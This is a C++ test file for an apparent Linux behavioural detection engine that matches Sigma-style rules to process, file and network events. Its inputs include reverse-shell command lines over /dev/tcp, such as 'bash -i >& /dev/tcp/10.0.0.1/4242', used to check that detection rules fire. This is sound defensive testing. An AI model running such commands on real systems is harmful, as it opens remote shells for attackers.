// The Engine: events reach the rules of their categories, alerts carry what
// the responders need, and the literal prefilter never hides a match.
#include <catch2/catch.hpp>
#include <filesystem>
#include <random>
#include <set>
#include <thread>

#include "compiled.h"
#include "test_util.h"

namespace mamori::behavior::rules {
namespace {

using testing::MakeEvent;
using testing::Titles;

std::string FileRule(const char* title, const char* category) {
  return std::string("title: ") + title + "\nlogsource:\n    product: linux\n    category: " + category +
         "\ndetection:\n    selection:\n        TargetFilename|contains: 'secret'\n    condition: selection\n---\n";
}

TEST_CASE("events reach only the rules of the categories their type feeds") {
  auto set = testing::LoadOk(FileRule("event", "file_event") + FileRule("delete", "file_delete") +
                                 FileRule("rename", "file_rename") + FileRule("change", "file_change"),
                             4);
  struct Route {
    EventType type;
    std::vector<std::string> titles;
  };
  const Route kRoutes[] = {
      {EventType::kFileCreate, {"event"}},
      {EventType::kFileOpenWrite, {"event"}},
      {EventType::kFileRename, {"event", "rename"}},
      {EventType::kFileChmod, {"event", "change"}},
      {EventType::kFileChown, {"event", "change"}},
      {EventType::kFileUnlink, {"delete"}},
      {EventType::kExec, {}},
      {EventType::kFork, {}},
      {EventType::kSensorDrops, {}},
  };
  for (const Route& r : kRoutes) {
    INFO("event type " << EventTypeName(r.type));
    CHECK(Titles(testing::Run(set, {MakeEvent(r.type, {{"TargetFilename", "/home/a/secret.txt"}})})) == r.titles);
  }
}

TEST_CASE("an alert carries rule metadata, responses and the event") {
  LoadReport report;
  auto set = RuleSet::Load({MAMORI_RULES_TESTDATA "/mamori_examples.yml"}, &report);
  REQUIRE(set.ok());
  INFO(report.ToText());
  REQUIRE(report.refused == 0);
  CHECK(report.loaded == 10);
  Event e = testing::Exec(
      {{"Image", "/usr/bin/bash"}, {"CommandLine", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}, {"ProcessId", "777"}},
      123);
  auto alerts = testing::Run(*set, {e});
  REQUIRE(alerts.size() == 1);
  const Alert& a = alerts[0];
  CHECK(a.rule->id == "6d1f0c62-2f0e-4f57-9a51-0c1e2b9f7a01");
  CHECK(a.rule->title == "Reverse shell through /dev/tcp");
  CHECK(a.rule->level == "critical");
  CHECK(a.rule->tags == std::vector<std::string>{"attack.execution", "attack.t1059.004"});
  CHECK(a.rule->responses == std::vector<ResponseKind>{ResponseKind::kKillProcess});
  CHECK(a.timestamp_ns == 123);
  REQUIRE(a.events.size() == 1);
  CHECK(a.events[0].process.pid == 777);
  CHECK(a.events[0].process.command_line == e.process.command_line);
}

TEST_CASE("the example rules for Mamori categories fire on their events") {
  auto set = RuleSet::Load({MAMORI_RULES_TESTDATA "/mamori_examples.yml"}, nullptr);
  REQUIRE(set.ok());
  struct Case {
    Event event;
    std::vector<std::string> titles;
  };
  const Case kCases[] = {
      {MakeEvent(EventType::kFileChmod, {{"TargetFilename", "/tmp/x"}, {"Mode", "0755"}}),
       {"Executable dropped in /tmp then run"}},
      {MakeEvent(EventType::kFileChmod, {{"TargetFilename", "/tmp/x"}, {"Mode", "0644"}}), {}},
      {MakeEvent(EventType::kModuleLoad, {{"ModuleName", "reptile_mod"}}),
       {"Kernel module loaded from an unusual name"}},
      {MakeEvent(EventType::kSetUid, {{"Image", "/tmp/exploit"}, {"NewId", "0"}}),
       {"Process gains root through setuid from a user shell"}},
      {MakeEvent(EventType::kSetUid, {{"Image", "/usr/bin/sudo"}, {"NewId", "0"}}), {}},
      {MakeEvent(EventType::kPtrace, {{"Image", "/tmp/inject"}, {"PtraceRequest", "16"}}),
       {"Ptrace attach to another process"}},
      {MakeEvent(EventType::kPtrace, {{"Image", "/usr/bin/gdb"}, {"PtraceRequest", "16"}}), {}},
      {MakeEvent(EventType::kNetBind, {{"Image", "/usr/bin/ncat"}, {"SourcePort", "4444"}}),
       {"Listener on a privileged port by a non-root user tool"}},
      {MakeEvent(EventType::kExit, {{"Image", "/bin/bash"}, {"ExitCode", "139"}}), {"Shell crashes repeatedly"}},
      {MakeEvent(EventType::kExit, {{"Image", "/bin/bash"}, {"ExitCode", "0"}}), {}},
      {MakeEvent(EventType::kFileUnlink, {{"Image", "/usr/bin/rm"}, {"TargetFilename", "/var/log/auth.log"}}),
       {"Log file deleted"}},
      {MakeEvent(EventType::kFileUnlink, {{"Image", "/usr/sbin/logrotate"}, {"TargetFilename", "/var/log/a.1"}}), {}},
  };
  for (const Case& c : kCases) {
    INFO("event type " << EventTypeName(c.event.type));
    CHECK(Titles(testing::Run(*set, {c.event})) == c.titles);
  }
  // The deletion burst correlation (group-by ProcessId).
  std::vector<Event> burst;
  for (int i = 0; i < 100; ++i) {
    burst.push_back(MakeEvent(EventType::kFileUnlink, {{"TargetFilename", "/home/a/f" + std::to_string(i)}},
                              1'000'000'000ull + i * 1'000'000ull));
  }
  CHECK(Titles(testing::Run(*set, burst)) == std::vector<std::string>{"Burst of file deletions by one process"});
}

TEST_CASE("process fields are available in every category") {
  auto set = testing::LoadOk(testing::RuleText(
      "network_connection",
      "    selection:\n        ParentImage|endswith: '/sshd'\n        User: root\n        DestinationPort: 4444\n"
      "    condition: selection\n"));
  auto e = MakeEvent(EventType::kNetConnect,
                     {{"ParentImage", "/usr/sbin/sshd"}, {"User", "root"}, {"DestinationPort", "4444"}});
  CHECK(testing::Run(set, {e}).size() == 1);
}

// Every literal of every value of every rule, to build events that hit the
// prefilter's corners (anchors, case, overlaps).
std::vector<std::string> Vocabulary(const internal::Compiled& c) {
  std::set<std::string> words = {"", " ", "/", "-", "X", "/usr/bin/", "/tmp/", " -c ", "sh"};
  for (const auto& rule : c.rules) {
    const auto& p = rule.detection.program;
    for (size_t t = 0; t < p.test_count(); ++t) {
      for (const auto& v : p.test(static_cast<uint32_t>(t)).values) {
        for (const auto& tok : v.pattern.tokens()) {
          if (tok.kind == internal::StringPattern::Token::kLiteral) words.insert(tok.text);
        }
      }
    }
  }
  return {words.begin(), words.end()};
}

void DifferentialCheck(const std::shared_ptr<const RuleSet>& set, int events) {
  const internal::Compiled& c = set->compiled();
  const auto words = Vocabulary(c);
  std::mt19937 rng(7);
  auto text = [&] {
    std::string s;
    for (int n = static_cast<int>(rng() % 4); n > 0; --n) s += words[rng() % words.size()];
    for (char& ch : s) {
      if (rng() % 3 == 0) ch = static_cast<char>(std::toupper(static_cast<unsigned char>(ch)));
    }
    return s;
  };
  static constexpr EventType kTypes[] = {EventType::kExec,       EventType::kFileCreate, EventType::kFileRename,
                                         EventType::kNetConnect, EventType::kNetAccept,  EventType::kFileUnlink};
  Engine engine(set);
  internal::EventView view;
  for (int i = 0; i < events; ++i) {
    Event e;
    e.type = kTypes[rng() % std::size(kTypes)];
    e.process.image = text();
    e.process.command_line = text();
    e.parent.image = text();
    e.parent.command_line = text();
    e.process.user = rng() % 2 ? "root" : text();
    e.process.cwd = text();
    e.target_filename = text();
    e.destination_hostname = text();
    e.destination_ip = rng() % 2 ? "127.0.0.1" : "10.1.2.3";
    std::vector<Alert> alerts;
    engine.Process(e, &alerts);
    std::vector<std::string> got, want;
    for (const Alert& a : alerts) {
      if (!a.rule->correlation) got.push_back(a.rule->title);
    }
    view.Reset(e);
    for (const auto& rule : c.rules) {
      if (!(internal::CategoriesOf(e.type) & internal::MaskOf(rule.category))) continue;
      if (rule.info->standalone && rule.detection.program.Eval(rule.category, view)) want.push_back(rule.info->title);
    }
    INFO("image '" << e.process.image << "' command line '" << e.process.command_line << "' target '"
                   << e.target_filename << "'");
    REQUIRE(got == want);
  }
}

TEST_CASE("the literal prefilter never hides a match (differential, example rules)") {
  auto set = RuleSet::Load({MAMORI_RULES_TESTDATA "/mamori_examples.yml"}, nullptr);
  REQUIRE(set.ok());
  DifferentialCheck(*set, 3000);
}

TEST_CASE("the literal prefilter never hides a match (differential, SigmaHQ linux rules)") {
  std::error_code ec;
  if (!std::filesystem::is_directory(MAMORI_SHARED_SIGMA, ec)) {
    WARN("SigmaHQ corpus not found at " MAMORI_SHARED_SIGMA "; skipped");
    return;
  }
  auto set = RuleSet::Load({MAMORI_SHARED_SIGMA}, nullptr);
  REQUIRE(set.ok());
  DifferentialCheck(*set, 20000);
}

TEST_CASE("engines on several threads share one rule set") {
  auto set = RuleSet::Load({MAMORI_RULES_TESTDATA "/mamori_examples.yml"}, nullptr);
  REQUIRE(set.ok());
  std::shared_ptr<const RuleSet> shared = *set;
  std::vector<size_t> counts(4, 0);
  std::vector<std::thread> threads;
  for (size_t t = 0; t < counts.size(); ++t) {
    threads.emplace_back([&, t] {
      Engine engine(shared);
      std::vector<Alert> alerts;
      for (int i = 0; i < 2000; ++i) {
        engine.Process(testing::Exec({{"CommandLine", i % 10 ? "ls" : "sh -c 'exec 3<>/dev/tcp/h/1'"}}), &alerts);
      }
      counts[t] = alerts.size();
    });
  }
  for (auto& th : threads) th.join();
  CHECK(counts == std::vector<size_t>(4, 200));
}

TEST_CASE("stats count events, alerts and evaluations") {
  auto set = testing::LoadOk(testing::RuleText(
      "process_creation", "    selection:\n        Image|endswith: '/nc'\n    condition: selection\n"));
  Engine engine(set);
  std::vector<Alert> alerts;
  engine.Process(testing::Exec({{"Image", "/usr/bin/ls"}}), &alerts);  // prefilter: not evaluated
  engine.Process(testing::Exec({{"Image", "/usr/bin/nc"}}), &alerts);
  engine.Process(testing::Exec({{"Image", "/usr/bin/nc.x"}}), &alerts);  // literal present, anchor misses
  const EngineStats st = engine.stats();
  CHECK(st.events == 3);
  CHECK(st.alerts == 1);
  CHECK(st.rule_evaluations == 1);
}

}  // namespace
}  // namespace mamori::behavior::rules
